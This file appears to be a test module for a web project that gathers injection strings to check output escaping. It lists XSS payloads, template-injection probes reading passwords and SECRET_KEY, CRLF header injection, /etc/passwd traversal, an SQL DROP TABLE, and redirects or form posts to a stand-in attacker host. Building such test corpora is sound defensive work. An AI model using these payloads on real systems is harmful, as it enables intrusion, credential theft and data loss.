"""Strings that are made to break out of wherever they stand."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import chain
from pathlib import Path

from tests.conftest import SHARED

# What a payload of ours does when it runs, in whatever place.
RUN = "window.__kena=1"
OWN = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title></textarea></style><svg onload={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f"javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"]]></p><script>{RUN}</script><![CDATA[",
    f"--><script>{RUN}</script><!--",
    f'{{{{ constructor.constructor("{RUN}")() }}}}',
    "{{ 7*7 }}{% debug %}${7*7}<%= 7*7 %>#{7*7}",
    "{% load %}{{ request.user.password }}{{ settings.SECRET_KEY }}",
    "satu\r\nSet-Cookie: kena=1\r\n\r\n<script>alert(1)</script>",
    "naik\x0b\x0cturun\x1b[31m\ufffe\uffff\x7f",
    "\u202egnp.exe\u2066\u200b\ufeff",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;svg/onload=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "//jahat.example/x", "https:jahat.example", "\\\\jahat.example\\x",
    "data:text/html,<script>alert(1)</script>",
    "<base href=//jahat.example/><link rel=stylesheet href=//jahat.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//jahat.example/'>",
    "<form action=//jahat.example><input name=csrfmiddlewaretoken>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<a href=' &#1; javascript:alert(1)'>x</a>",
    "%s %(name)s {0} {name} %00 ../../etc/passwd ; drop table newsroom_story; --",
    "Z̸̢a̶l̵g̷o̸ 👩‍👩‍👧‍👦 ﷽ ₹ Ⅷ",
)  # fmt: skip
FILES = ("html-injection-strings.txt", "path-strings.txt", "redirect-strings.txt")
# Of the real ones, taken evenly: what stands next to each other is alike.
WANTED = 500


def real(folder: Path = SHARED / "hostile") -> list[str]:
    """What others have collected; nothing where it is not at hand."""
    lines = chain.from_iterable(_lines(folder / name) for name in FILES if (folder / name).is_file())
    found = list(dict.fromkeys(lines))
    step = max(1, len(found) // WANTED)
    return found[::step][:WANTED]


def _lines(file: Path) -> Iterator[str]:
    text = file.read_text("utf-8", "surrogateescape").encode("utf-8", "replace").decode()
    # No form lets a NUL through, nor does any database.
    yield from (line.replace("\x00", "") for line in text.split("\n") if line.strip())
